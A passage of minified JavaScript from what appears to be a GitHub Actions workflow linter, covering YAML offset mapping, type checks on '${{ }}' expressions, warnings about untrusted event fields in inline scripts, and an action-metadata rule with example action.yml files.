`)&&!n.includes("\r")&&(t==="plain"||(t==="single"?!n.includes("''"):!n.includes("\\")))){let u=0,p=n.length;if(t==="plain"){for(;u<p&&(n.charCodeAt(u)===32||n.charCodeAt(u)===9);)u++;for(;p>u&&(n.charCodeAt(p-1)===32||n.charCodeAt(p-1)===9);)p--}let d=new Array(p-u+1);for(let f=0;f<p-u;f++)d[f]=e+u+f;return d[p-u]=e+n.length,{value:n.slice(u,p),offsets:d}}let s=fw(n,e),i="",r=[],o=(u,p)=>{for(let d of u)i+=d,r.push(p),d.length===2&&r.push(p)},a=0,c=!1,l=!1;for(let u=0;u<s.length;u++){let{text:p,start:d}=s[u],f=u===0,h=u===s.length-1,m=0,g=p.length;if(!f||t==="plain")for(;m<g&&Aa.test(p[m]);)m++;if(!h||t==="plain")for(;g>m&&Aa.test(p[g-1]);)g--;let w=!1;if(t==="double"&&!h){let O=p.length;for(;O>0&&Aa.test(p[O-1]);)O--;let S=0;for(;O-S-1>=0&&p[O-S-1]==="\\";)S++;S%2===1&&(w=!0,g=O-1)}if(p=p.slice(m,g),d+=m,!f){if(p===""&&!h){l||a++;continue}l||(a>0?o(`
`.repeat(a),d):(c||p!=="")&&o(" ",d)),a=0}l=w,c=!0;let v=0;for(;v<p.length;){let O=p[v],S=d+v;if(t==="single"&&O==="'"&&p[v+1]==="'"){o("'",S),v+=2;continue}if(t==="double"&&O==="\\"){let A=p[v+1],C={0:"\0",a:"\x07",b:"\b",t:"	","	":"	",n:`
`,v:"\v",f:"\f",r:"\r",e:"\x1B"," ":" ",'"':'"',"/":"/","\\":"\\",N:"\x85",_:"\xA0",L:"\u2028",P:"\u2029"};if(A!==void 0&&C[A]!==void 0){o(C[A],S),v+=2;continue}let E=A==="x"?2:A==="u"?4:A==="U"?8:0;if(E){let _=p.slice(v+2,v+2+E);if(/^[0-9a-fA-F]+$/.test(_)&&_.length===E){o(String.fromCodePoint(parseInt(_,16)),S),v+=2+E;continue}}}o(O,S),v++}}return r.push(e+n.length),{value:i,offsets:r}}function Y_(n){let e=n.props?.find(m=>m.type==="block-scalar-header");if(!e)return;let t=n.props[n.props.length-1],s=t.offset+t.source.length,i=e.source.startsWith(">"),r=e.source.includes("-")?"strip":e.source.includes("+")?"keep":"clip";if(/\d/.test(e.source))return;let o=fw(n.source,s);o.length&&o[o.length-1].text===""&&n.source.endsWith(`
`)&&o.pop();let a=-1;for(let m of o)if(m.text.trim()!==""){a=m.text.length-m.text.trimStart().length;break}a<0&&(a=0);let c="",l=[],u=o.map(m=>({text:m.text.length>a?m.text.slice(a):m.text.trim()===""?"":m.text.slice(a),start:m.start+Math.min(a,m.text.length)})),p=u.length;for(;p>0&&u[p-1].text==="";)p--;let d=(m,g)=>{for(let w=0;w<m.length;w++)c+=m[w],l.push(g+(m[w]===`
`?0:w))},f=m=>m!==""&&Aa.test(m[0]),h=-1;for(let m=0;m<p;m++){let g=u[m];if(!i){m>0&&d(`
`,u[m-1].start+u[m-1].text.length),d(g.text,g.start);continue}if(g.text!==""){if(h<0)for(let w=0;w<m;w++)d(`
`,u[w].start);else{let w=u[h],v=m-h-1,O=w.start+w.text.length;!f(w.text)&&!f(g.text)?d(v===0?" ":`
`.repeat(v),O):d(`
`.repeat(v+1),O)}d(g.text,g.start),h=m}}if(p>0){let m=u[p-1],g=m.start+m.text.length;if(r==="clip")d(`
`,g);else if(r==="keep")for(let w=p-1;w<u.length;w++)d(`
`,g)}else if(r==="keep")for(let m=0;m<u.length;m++)d(`
`,s);return l.push(s+n.source.length),{value:c,offsets:l}}var W_={PLAIN:"scalar",QUOTE_SINGLE:"single-quoted-scalar",QUOTE_DOUBLE:"double-quoted-scalar",BLOCK_LITERAL:"block-scalar",BLOCK_FOLDED:"block-scalar"};function B_(n,e){let t=n.type?W_[n.type]:void 0,s=n.range;if(!t||!s)return;if(t!=="block-scalar")return{type:t,offset:s[0],source:e.slice(s[0],s[1])};let i=s[0];for(;i<s[1];){let a=e.charCodeAt(i);if(a===32||a===10||a===13||a===9||a===35)break;i++}let r=e.indexOf(`
`,i),o=r<0||r>=s[1]?s[1]:r+1;return{type:t,offset:s[0],source:e.slice(o,s[1]),props:[{type:"block-scalar-header",offset:s[0],source:e.slice(s[0],i)},{type:"newline",offset:i,source:e.slice(i,o)}]}}var Fp=class{constructor(e,t,s){this.value=e;this.node=t;this.text=s}value;node;text;mapped;get offsets(){return(this.mapped??=dw(this.node,this.value,this.text)).offsets}get exact(){return(this.mapped??=dw(this.node,this.value,this.text)).exact}};function dw(n,e,t){let s=t!==void 0?B_(n,t):n.srcToken,i=n.range?.[0]??0,r;if(s)try{switch(s.type){case"scalar":r=Dp(s.source,s.offset,"plain");break;case"single-quoted-scalar":r=Dp(s.source.slice(1,-1),s.offset+1,"single");break;case"double-quoted-scalar":r=Dp(s.source.slice(1,-1),s.offset+1,"double");break;case"block-scalar":r=Y_(s);break}}catch{r=void 0}return r&&r.value===e?{offsets:r.offsets,exact:!0}:{offsets:new Array(e.length+1).fill(i),exact:!1}}function wt(n,e){if(typeof n.value=="string")return new Fp(n.value,n,e)}var G_=["github.head_ref","github.event.issue.title","github.event.issue.body","github.event.pull_request.title","github.event.pull_request.body","github.event.pull_request.head.ref","github.event.pull_request.head.label","github.event.pull_request.head.repo.default_branch","github.event.comment.body","github.event.review.body","github.event.review_comment.body","github.event.discussion.title","github.event.discussion.body","github.event.pages.*.page_name","github.event.commits.*.message","github.event.commits.*.author.email","github.event.commits.*.author.name","github.event.head_commit.message","github.event.head_commit.author.email","github.event.head_commit.author.name","github.event.workflow_run.head_branch","github.event.workflow_run.head_commit.message","github.event.workflow_run.head_commit.author.email","github.event.workflow_run.head_commit.author.name","github.event.workflow_run.pull_requests.*.head.ref"].map(n=>n.split("."));function Na(n){switch(n.type){case"var":return[n.name.toLowerCase()];case"prop":{let e=Na(n.object);return e&&[...e,n.name.toLowerCase()]}case"filter":{let e=Na(n.object);return e&&[...e,"*"]}case"index":{let e=Na(n.object);return e&&[...e,n.index.type==="string"?n.index.value.toLowerCase():"*"]}default:return}}function V_(n){for(let e of G_)if(e.length===n.length&&e.every((t,s)=>t===n[s]))return n.join(".")}function hw(n){let e=[],t=(s,i)=>{if(s.type==="prop"||s.type==="filter"||s.type==="index"){if(!i){let r=s;for(;r&&(r.type==="prop"||r.type==="filter"||r.type==="index");){let o=Na(r),a=o&&V_(o);if(a){e.push({node:r,path:a});break}r=r.object}}t(s.object,!0),s.type==="index"&&t(s.index,!1);return}s.type==="call"?s.args.forEach(r=>t(r,!1)):s.type==="not"?t(s.operand,!1):s.type==="binary"&&(t(s.left,!1),t(s.right,!1))};return t(n,!1),e}var ye=n=>n.toLowerCase();function Oe(n){return L(n)?n.items:[]}function ne(n,e){return L(n)?wp(n).get(e)?.value??void 0:void 0}function z_(n,e){for(let t of Oe(n))if(ye(ce(t)??"")===e)return t}function Qe(n){return F(n)&&typeof n.value=="string"?n.value:void 0}function Ie(n){return n.includes("${{")}function qi(n){let e=[],t=[],s=0;for(;;){let i=n.indexOf("${{",s);if(i<0)break;let r=Cp(n,i+3);if(r.error){if(t.push(r.error),r.end>=n.length&&!n.slice(i+3).includes("}}")||r.end>=n.length)break;e.push({start:i,end:r.end}),s=r.end;continue}e.push({start:i,end:r.end,node:r.node}),s=r.end}return{templates:e,errors:t}}function mw(n,e){return n.slice(e.start,e.end)}var Tp=class{constructor(e,t,s,i,r){this.job=e;this.steps=t;this.stepHints=s;this.stepIds=i;this.index=r}job;steps;stepHints;stepIds;index;built;get vars(){return(this.built??=this.build()).vars}get hints(){return(this.built??=this.build()).hints}build(){let e=te(this.steps.props);e.strict=this.steps.strict;let{stepIds:t,index:s}=this;return this.stepHints.set(e,i=>{let r=t.find(o=>o.id===ye(i));if(r){if(r.index===s)return`step "${i}" is the current step; its outputs are not available until it has run`;if(r.index>s)return`step "${i}" is defined later in this job; the steps context only has steps that ran before this one`}}),{vars:{...this.job.vars,steps:e},hints:this.stepHints}}},Lp=class{constructor(e,t,s){this.model=e;this.files=t;this.docPath=s;this.base=iw(),this.githubTy=this.base.github}model;files;docPath;diags=[];base;inputsTy=te();secretsTy=Fe(I);githubTy;jobs=new Map;emit(e,t,s,i,r,o,a){let c,l;t.exact?(c=t.offsets[Math.min(i,t.value.length)],l=r>i?t.offsets[Math.min(r-1,t.value.length)]+1:c,l<c&&(l=c)):(c=s.range?.[0]??0,l=s.range?.[1]??c),this.diags.push({rule:e,message:o,start:c,end:l,severity:a})}emitNode(e,t,s,i){let r=t.range?.[0]??0;this.diags.push({rule:e,message:s,start:r,end:t.range?.[1]??r,severity:i})}runChecker(e,t,s,i,r){let o=new Ss({vars:r.vars,workflowKey:i,hints:r.hints}),a=o.check(s);for(let c of o.diags)this.emit(c.rule,e,t,c.start,c.end,c.message,c.severity);return a}checkTemplates(e,t,s,i){if(typeof e.value!="string"||!Ie(e.value))return;let r=i??wt(e,this.model.text),{templates:o,errors:a}=qi(r.value);for(let l of a)this.emit("expression-syntax",r,e,l.start,l.end,l.message);let c=[];for(let l of o)c.push({t:l,ty:l.node?this.runChecker(r,e,l.node,t,s):V});return{ms:r,types:c}}checkString(e,t,s,i="string"){if(!e)return;if(!F(e)){if(L(e))for(let o of e.items)F(o.key)&&this.checkString(o.key,t,s),this.checkString(o.value,t,s);else if(G(e))for(let o of e.items)this.checkString(o,t,s);return}if(i!=="string"&&i!=="script"){this.checkTyped(e,t,s,i);return}let r=this.checkTemplates(e,t,s);if(r){if(i==="script"){for(let{t:o}of r.types)if(o.node)for(let a of hw(o.node))this.emit("untrusted-input",r.ms,e,a.node.start,a.node.end,`"${a.path}" is potentially untrusted. avoid using it directly in inline scripts. instead, pass it through an environment variable. see https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks for more details`)}for(let{t:o,ty:a}of r.types)(a.k==="object"||a.k==="array"||a.k==="null")&&this.emit("expression-type",r.ms,e,o.start,o.end,`object, array, and null values should not be evaluated in template with \${{ }} but evaluating the value of type ${le(a)}`,"warning")}}single(e,t){if(t.length!==1)return;let s=e.value,i=s.length-s.trimStart().length,r=s.trimEnd().length;return t[0].t.start===i&&t[0].t.end===r?t[0]:void 0}checkTyped(e,t,s,i,r){if(typeof e.value!="string")return;let o=e.value.trim(),a={bool:'boolean literal "true" or "false"',int:"integer literal",float:"float number literal",object:`mapping value for "${r??"env"}" section`,array:"sequence value"};if(!Ie(o)){(!((!(e.type==="QUOTE_SINGLE"||e.type==="QUOTE_DOUBLE")||i==="object"||i==="array")&&(i==="bool"&&/^(true|false)$/i.test(o)||(i==="int"||i==="float")&&o!==""&&!Number.isNaN(Number(o))||i==="object"||i==="array"))||i==="object"&&r==="env")&&this.emitNode("expression-placement",e,`expecting a single \${{...}} expression or ${a[i]}, but found plain text node`);return}let c=this.checkTemplates(e,t,s);if(!c||c.types.length===0)return;let l=this.single(c.ms,c.types);if(!l){this.emitNode("expression-placement",e,`expecting a single \${{...}} expression or ${a[i]}, but found plain text node`);return}let u=l.ty,p=d=>this.emit("expression-type",c.ms,e,l.t.start,l.t.end,d);return i==="bool"&&u.k!=="bool"&&u.k!=="any"&&p(`type of expression must be bool but found type ${le(u)}`),(i==="int"||i==="float")&&u.k!=="number"&&u.k!=="any"&&u.k!=="string"&&p(`type of expression at "${r??t}" must be number but found type ${le(u)}`),i==="object"&&u.k!=="object"&&u.k!=="any"&&p(`type of expression at "${r}" must be object but found type ${le(u)}`),i==="array"&&u.k!=="array"&&u.k!=="any"&&p(`type of expression at "${r}" must be array but found type ${le(u)}`),u}checkIf(e,t,s){if(!e||!F(e))return;if(typeof e.value!="string"){if(e.value===null&&e.source==="")return;this.emitNode("constant-condition",e,`constant expression "${String(e.source??e.value)}" in condition. remove the if: section`,"warning");return}let i=wt(e,this.model.text),r=i.value;if(Ie(r)){let a=this.checkTemplates(e,t,s,i);if(!a||a.types.length===0)return;let c=a.types[0].t;if(!(a.types.length===1&&c.start===0&&c.end===r.length)){this.emitNode("if-always-true",e,`if: condition ${JSON.stringify(r)} is always evaluated to true because extra characters are around \${{ }}`);return}c.node&&$n(c.node)&&this.emitNode("constant-condition",e,`constant expression "${mw(r,c.node)}" in condition. remove the if: section`,"warning");return}if(r.trim()==="")return;let o=Ma(r);if(o.error){this.emit("expression-syntax",i,e,o.error.start,o.error.end,o.error.message);return}this.runChecker(i,e,o.node,t,s),$n(o.node)&&this.emitNode("constant-condition",e,`constant expression "${mw(r,o.node)}" in condition. remove the if: section`,"warning")}checkEnv(e,t,s){if(e){if(F(e)){if(e.value===null)return;this.checkTyped(e,t,s,"object","env");return}this.checkString(e,t,s)}}checkConcurrency(e,t,s){if(e)if(L(e))for(let i of e.items)ce(i)==="cancel-in-progress"&&F(i.value)?this.checkTyped(i.value,t,s,"bool"):this.checkString(i.value,t,s);else this.checkString(e,t,s)}checkNoExpression(e,t){let s=Qe(e);s!==void 0&&Ie(s)&&this.emitNode("expression-placement",e,`expressions are not evaluated in ${t}: GitHub reads "${s}" as it is written`,"warning")}localYaml=new Map;readLocalYaml(e,t){let s=`${e}\0${t.join("\0")}`;if(this.localYaml.has(s))return this.localYaml.get(s);let i=this.readLocalYamlOnce(e,t);return this.localYaml.set(s,i),i}readLocalYamlOnce(e,t){if(!this.docPath)return;let s=Ea.dirname(this.docPath),i=/^(.*?)[\\/]\.github[\\/]/.exec(this.docPath);i&&(s=i[1]);let r=Ve(e)?.path??e;for(let o of t){let a=Ea.join(s,r,o),c=this.files.readFile(a);if(c!==void 0)try{return(0,gw.parseDocument)(c).toJS()}catch{return}}}actionOutputs(e){if(!e)return Fe(I);if(Ve(e)&&!Ie(e)){let t=this.readLocalYaml(e,["action.yml","action.yaml"]);if(t&&typeof t=="object"){let s=te();if(t.outputs&&typeof t.outputs=="object")for(let i of Object.keys(t.outputs))s.props.set(ye(i),I);return s}}return Fe(I)}callOutputs(e){if(e&&Ve(e)&&!Ie(e)){let t=this.readLocalYaml(e,[""]),s=t&&typeof t=="object"?t.on:void 0,i=s&&typeof s=="object"&&!Array.isArray(s)?s.workflow_call:void 0;if(i!==void 0){let r=te(),o=i&&typeof i=="object"?i.outputs:void 0;if(o&&typeof o=="object")for(let a of Object.keys(o))r.props.set(ye(a),I);return r}}return Fe(I)}setEvent(e){let t=new Map(this.githubTy.props);t.set("event",e(t.get("event"))),this.githubTy={...this.githubTy,props:t}}readEvents(){let e=this.model.root,t=ne(e,"on"),s=!1,i=!1,r=!0,o=te();if(L(t))for(let a of t.items){let c=ce(a);if(c==="workflow_call"){s=!0;for(let u of Oe(ne(a.value,"inputs"))){let p=ce(u);if(p===void 0)continue;let d=Qe(ne(u.value,"type"));o.props.set(ye(p),d==="boolean"?fe:d==="number"?je:d==="string"?I:V)}let l=z_(a.value,"secrets");if(l){let u=te({github_token:I,actions_step_debug:I,actions_runner_debug:I});for(let p of Oe(l.value)){let d=ce(p);d!==void 0&&u.props.set(ye(d),I)}(l.value===null||L(l.value)||F(l.value)&&l.value.value===null)&&(this.secretsTy=u)}}else if(c==="workflow_dispatch"){i=!0;let l=te();for(let u of Oe(ne(a.value,"inputs"))){let p=ce(u);if(p===void 0)continue;let d=Qe(ne(u.value,"type")),f=d==="boolean"?fe:d==="number"?je:d==="string"||d==="choice"||d==="environment"?I:V,h=o.props.get(ye(p));o.props.set(ye(p),h?Ze(h,f):f),l.props.set(ye(p),I)}this.setEvent(u=>({...u,props:new Map([...u.props,["inputs",l]])}))}}else if(F(t)||G(t)){let a=G(t)?t.items.map(c=>Qe(c)):[Qe(t)];s=a.includes("workflow_call"),i=a.includes("workflow_dispatch"),i&&this.setEvent(c=>({...c,props:new Map([...c.props,["inputs",Fe(I)]])})),s&&(r=!1)}else r=!1;this.inputsTy=r?o:De()}readJobs(){let e=ne(this.model.root,"jobs");for(let t of Oe(e)){let s=ce(t);if(s===void 0||!L(t.value))continue;let i=t.value,r=Qe(ne(i,"uses")),o;if(r!==void 0)o=this.callOutputs(r);else{let a=ne(i,"outputs");if(L(a)){let c=te();for(let l of a.items){let u=ce(l);u!==void 0&&c.props.set(ye(u),I)}o=c}else a===void 0||F(a)&&a.value===null?o=te():o=Fe(I)}this.jobs.set(ye(s),{id:s,map:i,outputs:o})}}scope(e={},t){return{vars:{...this.base,github:this.githubTy,inputs:this.inputsTy,secrets:this.secretsTy,...e},hints:t??new Map}}guessYaml(e,t,s){if(F(e)){let i=e.value;if(typeof i=="string"){if(!Ie(i))return I;if(!s)return V;let r=this.checkTemplates(e,t,s),o=r&&this.single(r.ms,r.types);return o?o.ty:I}return typeof i=="number"?je:typeof i=="boolean"?fe:i===null?Pi:V}if(L(e)){let i=te();for(let r of e.items){let o=ce(r);if(o===void 0)return De();i.props.set(ye(o),this.guessYaml(r.value,t,s))}return i}return G(e)?e.items.length===0?{k:"array",elem:V}:{k:"array",elem:e.items.map(i=>this.guessYaml(i,t,s)).reduce(Ze)}:V}matrixType(e,t){let s="jobs.<job_id>.strategy",i=ne(e,"matrix");if(!i)return te();if(F(i)){let o=typeof i.value=="string"?this.checkTyped(i,s,t,"object","matrix"):void 0;if(o&&o.k==="object"&&o.props.size>0){let a={...o,props:new Map(o.props),strict:!1},c=a.props.get("include");if(a.props.delete("include"),a.props.delete("exclude"),c&&c.k==="array"&&c.elem.k==="object")for(let[l,u]of c.elem.props)a.props.set(l,a.props.has(l)?Ze(a.props.get(l),u):u);return a}return De()}if(!L(i))return De();let r=te();for(let o of i.items){let a=ce(o);if(a===void 0){r.strict=!1;continue}let c=o.value;if(a==="include"||a==="exclude"){if(G(c))for(let l of c.items)if(L(l))for(let u of l.items){let p=this.guessYaml(u.value,s,t);if(a==="include"){let d=ce(u);if(d===void 0)continue;let f=r.props.get(ye(d));r.props.set(ye(d),f?Ze(f,p):p)}}else F(l)&&typeof l.value=="string"&&Ie(l.value)&&this.checkTyped(l,s,t,"object",`matrix combination at element of ${a} section`),a==="include"&&(r.strict=!1);else F(c)&&typeof c.value=="string"&&Ie(c.value)&&this.checkTyped(c,s,t,"array",a),a==="include"&&(r.strict=!1);continue}if(G(c))r.props.set(ye(a),c.items.length?c.items.map(l=>this.guessYaml(l,s,t)).reduce(Ze):V);else if(F(c)&&typeof c.value=="string"&&Ie(c.value)){let l=this.checkTyped(c,s,t,"array","matrix row");r.props.set(ye(a),l&&l.k==="array"?l.elem:V)}else r.props.set(ye(a),V)}return r}run(){let e=this.model.root;if(!e||this.model.kind!=="workflow")return;this.readEvents(),this.readJobs();let t=this.scope();this.checkString(ne(e,"name"),void 0,t),this.checkString(ne(e,"run-name"),"run-name",t),this.checkEnv(ne(e,"env"),"env",t),this.checkConcurrency(ne(e,"concurrency"),"concurrency",t);let s=ne(ne(e,"defaults"),"run");for(let r of Oe(s))this.checkString(r.value,ce(r)==="shell"?"defaults.run.shell":void 0,t);let i=ne(e,"on");for(let r of Oe(i)){let o=ce(r);if(o==="workflow_call"){let a=te();for(let u of Oe(ne(r.value,"inputs"))){let p=ce(u),d=Qe(ne(u.value,"type")),f=d==="boolean"?fe:d==="number"?je:d==="string"?I:V;for(let h of Oe(u.value))if(ce(h)==="default"){let m=this.scope({inputs:a}),g=h.value;if(F(g)&&typeof g.value=="string"&&Ie(g.value)){let w=this.checkTemplates(g,"on.workflow_call.inputs.<inputs_id>.default",m),v=w&&this.single(w.ms,w.types);v&&p!==void 0&&(f.k==="any"||v.ty.k==="any"||(f.k==="bool"?v.ty.k==="bool":f.k==="number"?v.ty.k==="number":v.ty.k==="string"||v.ty.k==="number")||this.emit("expression-type",w.ms,g,v.t.start,v.t.end,`type of input "${p}" must be ${le(f)} but found type ${le(v.ty)}`))}}else ce(h)==="required"&&F(h.value)?this.checkTyped(h.value,void 0,t,"bool"):this.checkString(h.value,void 0,t);p!==void 0&&a.props.set(ye(p),f)}for(let u of Oe(ne(r.value,"secrets")))for(let p of Oe(u.value))ce(p)==="required"&&F(p.value)?this.checkTyped(p.value,void 0,t,"bool"):this.checkString(p.value,void 0,t);let c=te();for(let[u,p]of this.jobs)c.props.set(u,te({outputs:Qe(ne(p.map,"uses"))!==void 0?De():p.outputs,result:I}));let l=this.scope({jobs:c});for(let u of Oe(ne(r.value,"outputs")))for(let p of Oe(u.value))this.checkString(p.value,ce(p)==="value"?"on.workflow_call.outputs.<output_id>.value":void 0,ce(p)==="value"?l:t)}else if(o==="workflow_dispatch")for(let a of Oe(ne(r.value,"inputs")))for(let c of Oe(a.value))ce(c)==="required"&&F(c.value)?this.checkTyped(c.value,void 0,t,"bool"):this.checkString(c.value,void 0,t);else this.checkString(r.value,void 0,t)}for(let r of Oe(ne(e,"jobs")))L(r.value)&&this.checkJob(ce(r)??"",r.value)}checkJob(e,t){let s=ne(t,"needs"),i=(G(s)?s.items.map(A=>Qe(A)):[Qe(s)]).filter(A=>!!A).map(ye),r=te();for(let A of i){let C=this.jobs.get(A);C&&A!==ye(e)&&r.props.set(A,te({outputs:C.outputs,result:I}))}let o=new Map;o.set(r,A=>this.jobs.has(ye(A))?`job "${A}" is not listed in "needs" of job "${e}"; add it to "needs" to read its outputs`:void 0);let a=(A={})=>this.scope({needs:r,...A},o),c=a(),l=ne(t,"strategy"),u=this.matrixType(l,c);ne(l,"matrix")||o.set(u,()=>`job "${e}" has no matrix`);let p=a({matrix:u}),d="jobs.<job_id>.strategy";for(let A of Oe(l)){let C=ce(A);C==="fail-fast"&&F(A.value)?this.checkTyped(A.value,d,c,"bool"):C==="max-parallel"&&F(A.value)&&this.checkTyped(A.value,d,c,"int","max-parallel")}let f=ne(t,"steps"),h=[],m=[];G(f)&&f.items.forEach((A,C)=>{let E=Qe(ne(A,"id"));m.push(E),E!==void 0&&!Ie(E)&&h.push({id:ye(E),index:C})});for(let A of t.items){let C=ce(A),E=A.value;switch(C){case"name":this.checkString(E,"jobs.<job_id>.name",p);break;case"needs":this.checkString(E,void 0,p);break;case"runs-on":if(F(E)&&typeof E.value=="string"&&Ie(E.value)){let _=this.checkTemplates(E,"jobs.<job_id>.runs-on",p),q=_&&this.single(_.ms,_.types);if(q&&q.ty.k!=="string"&&q.ty.k!=="array"&&q.ty.k!=="any")this.emit("expression-type",_.ms,E,q.t.start,q.t.end,`type of expression at "runs-on" must be string or array but found type "${le(q.ty)}"`);else if(_&&!q)for(let{t:me,ty:we}of _.types)(we.k==="object"||we.k==="array"||we.k==="null")&&this.emit("expression-type",_.ms,E,me.start,me.end,`object, array, and null values should not be evaluated in template with \${{ }} but evaluating the value of type ${le(we)}`,"warning")}else this.checkString(E,"jobs.<job_id>.runs-on",p);break;case"concurrency":this.checkConcurrency(E,"jobs.<job_id>.concurrency",p);break;case"env":this.checkEnv(E,"jobs.<job_id>.env",p);break;case"defaults":this.checkString(ne(E,"run"),"jobs.<job_id>.defaults.run",p);break;case"if":this.checkIf(E,"jobs.<job_id>.if",a());break;case"continue-on-error":F(E)&&this.checkTyped(E,"jobs.<job_id>.continue-on-error",p,"bool");break;case"timeout-minutes":F(E)&&this.checkTyped(E,"jobs.<job_id>.timeout-minutes",p,"float","timeout-minutes");break;case"container":this.checkContainer(E,"jobs.<job_id>.container","jobs.<job_id>.container",p);break;case"services":if(F(E))typeof E.value=="string"&&Ie(E.value)&&this.checkTyped(E,"jobs.<job_id>.services",p,"object","services");else for(let _ of Oe(E))this.checkContainer(_.value,"jobs.<job_id>.services","jobs.<job_id>.services.<service_id>",p);break;case"uses":this.checkNoExpression(E,'the "uses" of a job');break;case"with":this.checkString(E,"jobs.<job_id>.with.<with_id>",p);break;case"secrets":this.checkString(E,"jobs.<job_id>.secrets.<secrets_id>",p);break;case"snapshot":for(let _ of Oe(E))ce(_)==="if"?this.checkIf(_.value,"jobs.<job_id>.snapshot.if",p):this.checkString(_.value,void 0,p);F(E)&&this.checkString(E,void 0,p);break}}let g=te(),w=new Map(o);G(f)&&f.items.forEach((A,C)=>{this.checkStep(A,new Tp(p,g,w,h,C));let E=m[C];E!==void 0&&(Ie(E)?g.strict=!1:g.props.set(ye(E),te({outputs:this.stepOutputs(A),conclusion:I,outcome:I})))});let v={vars:{...p.vars,steps:g},hints:w},O=ne(t,"environment");if(L(O))for(let A of O.items)ce(A)==="url"?this.checkString(A.value,"jobs.<job_id>.environment.url",v):this.checkString(A.value,"jobs.<job_id>.environment",p);else this.checkString(O,"jobs.<job_id>.environment",p);let S=ne(t,"outputs");for(let A of Oe(S))this.checkString(A.value,"jobs.<job_id>.outputs.<output_id>",v)}stepOutputs(e){let t=Qe(ne(e,"uses"));return t===void 0?Fe(I):/^actions\/github-script@/i.test(t)?De():this.actionOutputs(t)}checkContainer(e,t,s,i){if(e){if(!L(e)){this.checkString(e,t,i);return}for(let r of e.items){let o=ce(r),a=r.value;o==="credentials"?F(a)?typeof a.value=="string"&&Ie(a.value)&&this.checkTyped(a,`${s}.credentials`,i,"object","credentials"):this.checkString(a,`${s}.credentials`,i):o==="env"?F(a)?a.value!==null&&this.checkTyped(a,`${s}.env.<env_id>`,i,"object","env"):this.checkString(a,`${s}.env.<env_id>`,i):this.checkString(a,t,i)}}}checkStep(e,t){if(!L(e))return;let s=Qe(ne(e,"uses"));for(let i of e.items){let r=ce(i),o=i.value;switch(r){case"id":this.checkString(o,"jobs.<job_id>.steps.id",t);break;case"name":this.checkString(o,"jobs.<job_id>.steps.name",t);break;case"if":this.checkIf(o,"jobs.<job_id>.steps.if",t);break;case"run":this.checkString(o,"jobs.<job_id>.steps.run",t,"script");break;case"shell":this.checkString(o,"jobs.<job_id>.steps.shell",t);break;case"working-directory":this.checkString(o,"jobs.<job_id>.steps.working-directory",t);break;case"uses":this.checkNoExpression(o,'the "uses" of a step');break;case"with":if(L(o))for(let a of o.items){let c=ce(a)==="script"&&s!==void 0&&/^actions\/github-script@/i.test(s);this.checkString(a.value,"jobs.<job_id>.steps.with",t,c?"script":"string")}else this.checkString(o,"jobs.<job_id>.steps.with",t);break;case"env":this.checkEnv(o,"jobs.<job_id>.steps.env",t);break;case"continue-on-error":F(o)&&this.checkTyped(o,"jobs.<job_id>.steps.continue-on-error",t,"bool");break;case"timeout-minutes":F(o)&&this.checkTyped(o,"jobs.<job_id>.steps.timeout-minutes",t,"float","timeout-minutes");break}}}};function _a(n,e,t){let s=n.memoize("wfx:expr",()=>new Map),i=t??"",r=s.get(i);if(!r){let o=new Lp(n,e,t);o.run(),s.set(i,r={diags:o.diags})}return r}var $a=["description","required","default","deprecationMessage"],K_=/^node1[26]$/;function J_(n){let e=K(n),t=T(n,Y(n,e.runs).get("using")?.value);return F(t)?t:void 0}function Ca(n,e,t,s,i=!1,r){if(L(e)){for(let p of e.items)Ca(n,p.value,t,s,!1,r);return}if(G(e)){for(let p of e.items)Ca(n,p,t,s,!1,r);return}if(!F(e)||typeof e.value!="string"||!i&&!e.value.includes("${{"))return;let o=wt(e,n.text);if(!o)return;let a=(p,d)=>o.exact?n.lines.range(o.offsets[Math.min(p,o.value.length)],o.offsets[Math.max(p,Math.min(d,o.value.length)-1)]+1):n.rangeOf(e),c=p=>{let d=new Ss({vars:t,workflowKey:r});d.check(p);for(let f of d.diags)s({message:f.message,range:a(f.start,f.end),severity:f.severity})};if(!o.value.includes("${{")){if(!i||!o.value.trim())return;let p=Ma(o.value);p.error?s({message:p.error.message,range:a(p.error.start,p.error.end)}):p.node&&c(p.node);return}let{templates:l,errors:u}=qi(o.value);for(let p of u)s({message:p.message,range:a(p.start,p.end)});for(let p of l)p.node&&c(p.node)}var X_={id:"action-metadata",language:"action",severity:"error",compat:{},docs:{summary:"Problems in an action's metadata (`action.yml`) that the schema alone does not catch: unknown keys of an input (`descripton:`), outputs of a composite action without `value`, the retired `node12`/`node16` runtimes, and `${{ }}` in composite steps that read contexts actions do not have (`secrets`, `vars`, `needs`) or inputs and steps that are not declared.",why:"GitHub ignores a misspelled input key (the input silently loses its description, default or `required`), a composite output without `value` is always empty, actions on node12/node16 no longer run as written, and a composite step cannot read secrets: they must be passed in as inputs.",bad:`name: Greet
description: Says hello
inputs:
  who:
    descripton: Whom to greet
outputs:
  greeting:
    description: The text
runs:
  using: composite
  steps:
    - id: say
      run: echo "text=Hello \${{ inputs.who }} \${{ secrets.TOKEN }}" >> "$GITHUB_OUTPUT"
      shell: bash
`,good:`name: Greet
description: Says hello
inputs:
  who:
    description: Whom to greet
  token:
    description: A token
outputs:
  greeting:
    description: The text
    value: \${{ steps.say.outputs.text }}
runs:
  using: composite
  steps:
    - id: say
      run: echo "text=Hello \${{ inputs.who }} \${{ inputs.token }}" >> "$GITHUB_OUTPUT"
      shell: bash
`},check({model:n,report:e}){if(n.kind!=="action")return;let t=K(n),s=Y(n,t.root),i=de(n,s.get("inputs")),r=[];for(let m of i?.items??[]){let g=P(m.key);if(g===void 0)continue;r.push(g);let w=de(n,m),v=new Set((w?.items??[]).map(O=>P(O.key)));for(let O of w?.items??[]){let S=P(O.key);if(S===void 0||$a.includes(S))continue;let A=$a.find(E=>E.toLowerCase()===S.toLowerCase())??ae(S,$a.filter(E=>!v.has(E))),C=n.keyRange(O);e({message:`unexpected key "${S}" for input "${g}" of action metadata. expected one of ${$a.map(E=>`"${E}"`).join(", ")}`+(A?`. Did you mean "${A}"?`:""),range:C,severity:"warning",fixes:A?[{title:`Change to "${A}"`,preferred:!0,edits:[{range:C,newText:A}]}]:void 0})}}let o=J_(n),a=P(o);o&&a&&K_.test(a)&&e({message:`the "${a}" runtime is retired: GitHub no longer provides it and runs such actions on a newer Node.js, if at all. use "node20" (or "node24")`,range:n.rangeOf(o),severity:"warning",fixes:[{title:'Change to "node20"',preferred:!0,edits:[{range:n.rangeOf(o),newText:"node20"}]}]});let c=a==="composite",l=te();for(let m of r)l.props.set(m.toLowerCase(),I);let 